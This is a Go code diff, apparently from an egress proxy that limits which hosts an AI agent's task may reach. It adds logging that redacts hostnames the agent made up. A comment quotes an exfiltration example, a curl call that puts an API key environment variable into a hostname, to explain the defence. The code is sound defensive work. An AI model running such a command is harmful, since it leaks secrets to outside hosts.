@@ -279,12 +279,36 @@ type task struct {
 }
 
 func (t *task) allows(host string, port int) bool {
+	_, ok := t.rule(host, port)
+	return ok
+}
+
+// rule returns the first of the task's rules that allows host:port.
+func (t *task) rule(host string, port int) (HostRule, bool) {
 	for _, r := range t.rules {
 		if r.Match(host, port) {
-			return true
+			return r, true
 		}
 	}
-	return false
+	return HostRule{}, false
+}
+
+// hostFields adds what a log line may say of host: the host itself only
+// when an exact allow_hosts entry names it (the producer wrote it), else
+// the wildcard rule it matched and its length, else its length alone. A
+// name the agent made up never reaches the log, since it can carry
+// anything the agent knows, its env values included, as in
+// "curl http://$API_KEY.example/". The task's egress record, which goes
+// back to the producer, keeps the name.
+func (t *task) hostFields(c zerolog.Context, host string, port int) zerolog.Context {
+	r, ok := t.rule(host, port)
+	switch {
+	case ok && !r.Wildcard:
+		return c.Str("host", host)
+	case ok:
+		return c.Str("host_rule", r.String()).Int("host_len", len(host))
+	}
+	return c.Int("host_len", len(host))
 }
 
 // acquire takes a connection slot; release gives it back. It fails when
